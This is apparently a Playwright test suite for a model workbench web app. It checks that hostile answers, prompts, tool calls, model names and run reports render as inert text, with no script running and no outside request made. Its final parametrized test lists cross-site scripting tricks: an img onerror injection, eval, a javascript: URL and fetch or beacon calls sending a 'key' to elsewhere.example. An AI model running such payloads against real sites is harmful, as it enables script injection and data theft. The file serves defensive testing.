"""Whatever models, hosts, runs and samples say stays text: no script runs, nothing is fetched."""

import json

import pytest
from playwright.sync_api import expect

from tests.workbench.conftest import HOSTED, HOSTED_TOO
from tests.workbench.hostile import ALL, NAME, TEXTS
from tests.workbench.run_folder import HOSTILE_RUN
from tests.workbench.scripted_host import Answer, ScriptedHost
from tests.workbench.workbench_page import WorkbenchPage

SETTLE_MS = 300
"""Long enough for an image that is not there to have failed."""
ACTIVE = (
    "script, iframe, object, embed, svg, math, style, link, meta, base, form, input, button, "
    "video, audio, img:not([src^='data:image/'])"
)
"""What no rendered answer may hold."""
OWN = ".code-head button"


def assert_inert(workbench: WorkbenchPage) -> None:
    """Nothing acted, and no element of a text's could."""
    workbench.page.wait_for_timeout(SETTLE_MS)
    assert not workbench.runs_scripts()
    found = workbench.page.evaluate(
        """([active, own]) => [...document.querySelectorAll(".markdown, .text")]
          .flatMap((one) => [...one.querySelectorAll("*")])
          .filter((one) => (one.matches(active) && !one.matches(own))
            || [...one.attributes].some(({name}) => name.startsWith("on") || name === "style")
            || (one.href !== undefined && !/^(https?|mailto):/.test(one.href)))
          .map((one) => one.outerHTML)""",
        [ACTIVE, OWN],
    )
    assert found == []
    assert workbench.watch.elsewhere == []


def test_a_hostile_answer_stays_text(workbench: WorkbenchPage, host: ScriptedHost) -> None:
    host.answers["Go"] = Answer(text=ALL, pause_s=0.002)
    workbench.exchange("Go")
    expect(workbench.answer).to_contain_text("onerror")
    assert_inert(workbench)
    for link in workbench.answer.locator("a").all():
        assert link.get_attribute("rel") == "noopener noreferrer"
        assert link.get_attribute("target") == "_blank"


def test_the_sanitizer_alone_leaves_nothing_that_acts(workbench: WorkbenchPage) -> None:
    """Each text by itself, for one trick may hide another, in a page that has no policy at all."""
    bare = workbench.page.context.browser.new_page()  # type: ignore[union-attr]
    tried: list[str] = []
    bare.on("request", lambda request: tried.append(request.url))
    for text, html in zip(TEXTS, workbench.page.evaluate(RENDER, TEXTS), strict=True):
        bare.set_content(f"<body>{html}</body>", wait_until="commit")
        links = bare.locator("a").evaluate_all("all => all.map(({protocol}) => protocol)")
        assert set(links) <= {"http:", "https:", "mailto:"}, text
        assert bare.locator(ACTIVE).count() == 0, text
    bare.wait_for_timeout(SETTLE_MS)
    assert not bare.evaluate("'__pwned' in window")
    bare.close()
    assert tried == []


RENDER = """(texts) => Promise.all(texts.map(async (text) => {
  const headers = {"Content-Type": "application/json"};
  const asked = {method: "POST", headers, body: JSON.stringify({text})};
  return (await (await fetch("/workbench/api/markdown", asked)).json()).html;
}))"""


def test_a_question_and_a_system_prompt_stay_text(
    workbench: WorkbenchPage, host: ScriptedHost
) -> None:
    workbench.part("system-prompt").fill(ALL)
    workbench.exchange(ALL)
    assert workbench.turns("user").last.locator(".text").inner_text().strip()[:8] == "<script>"
    workbench.page.reload()
    workbench.wait_for("chat")
    expect(workbench.turns("user")).to_have_count(1)
    assert_inert(workbench)


def test_hostile_calls_and_errors_stay_text(workbench: WorkbenchPage, host: ScriptedHost) -> None:
    workbench.watch.takes_errors = True
    tool = {"type": "function", "function": {"name": "find", "parameters": {"type": "object"}}}
    workbench.unfold_settings()
    workbench.part("tools-editor").fill(json.dumps([tool]))
    function = {"name": NAME, "arguments": json.dumps({NAME: ALL})}
    host.answers["Call"] = Answer(tool_calls=({"id": NAME, "function": function},))
    workbench.exchange("Call")
    expect(workbench.part("tool-call")).to_contain_text("onerror")
    assert_inert(workbench)
    workbench.part("new-chat").click()
    host.answers["Fail"] = Answer(text=ALL, status=400)
    workbench.ask("Fail")
    expect(workbench.part("error")).to_be_visible()
    assert_inert(workbench)


def test_a_hostile_models_name_stays_text(workbench: WorkbenchPage, host: ScriptedHost) -> None:
    workbench.choose_model(NAME)
    workbench.exchange("Go")
    expect(workbench.turns("assistant").last).to_contain_text(NAME)
    workbench.go_to("api")
    for kind in ("curl", "openai", "requests", "javascript"):
        assert "onerror" in workbench.code(kind)
    workbench.go_to("compare")
    workbench.choose_compared([NAME, HOSTED])
    workbench.compare("Go")
    workbench.wait_for_columns()
    assert_inert(workbench)


def test_hostile_answers_beside_each_other(workbench: WorkbenchPage, host: ScriptedHost) -> None:
    host.in_turn["Go"] = [Answer(text=ALL), Answer(text=ALL.replace("click", "press"))]
    workbench.go_to("compare")
    workbench.choose_compared([HOSTED, HOSTED_TOO])
    workbench.compare("Go")
    workbench.wait_for_columns()
    workbench.part("diff-toggle").click()
    expect(workbench.part("diff").locator("mark").first).to_be_visible()
    assert_inert(workbench)


def test_hostile_samples_and_runs_stay_text(workbench: WorkbenchPage, host: ScriptedHost) -> None:
    workbench.go_to("samples")
    workbench.page.get_by_label("Run", exact=True).select_option(HOSTILE_RUN)
    expect(workbench.part("sample")).to_have_count(1)
    expect(workbench.part("sample")).to_contain_text("onerror")
    workbench.part("sample").locator("details summary").click()
    assert_inert(workbench)
    workbench.part("sample-open").click()
    workbench.wait_for("chat")
    assert_inert(workbench)
    workbench.go_to("runs")
    assert_inert(workbench)


def test_a_hostile_report_reaches_nothing(workbench: WorkbenchPage) -> None:
    # The page's own faults are looked at below: the report's are its own.
    workbench.go_to("runs")
    with workbench.page.context.expect_page() as opened:
        workbench.page.locator(f"a[href*='{HOSTILE_RUN}/evals']").click()
    report = opened.value
    report.wait_for_load_state()
    assert report.evaluate("window.__pwned") == 1, "its own scripts draw its charts"
    assert "SecurityError" in report.evaluate("window.name")
    assert not workbench.runs_scripts()
    assert report.evaluate("fetch('/v1/models').then(() => 'open', () => 'closed')") == "closed"
    report.close()
    workbench.watch.faults.clear()


@pytest.mark.parametrize(
    "trick",
    [
        "document.body.innerHTML = '<img src=x onerror=1>'",
        "document.createElement('script').text = 'window.__pwned = 1'",
        "trustedTypes.createPolicy('other', {})",
        "eval('window.__pwned = 1')",
        "Function('window.__pwned = 1')()",
        "open('javascript:window.opener.__pwned = 1')",
        "document.head.append(Object.assign(document.createElement('base'), {href: '/x/'}))",
        "new Image().src = 'http://elsewhere.example/pixel'",
        "fetch('http://elsewhere.example/key').catch(() => {})",
        "navigator.sendBeacon('http://elsewhere.example/key')",
    ],
)
def test_the_policy_stops_what_would_get_through(workbench: WorkbenchPage, trick: str) -> None:
    """The second line of defence by itself: as if a script of the page's own had been fooled."""
    # From a timer: what a debugger evaluates by itself may do more than the page may.
    workbench.page.evaluate(f"void setTimeout(() => {{ {trick} }})")
    workbench.page.wait_for_function("window.__violations.length > 0")
    workbench.page.wait_for_timeout(50)
    assert not workbench.runs_scripts()
    assert workbench.watch.elsewhere == []
    workbench.watch.faults.clear()
    workbench.page.evaluate("window.__violations = []")
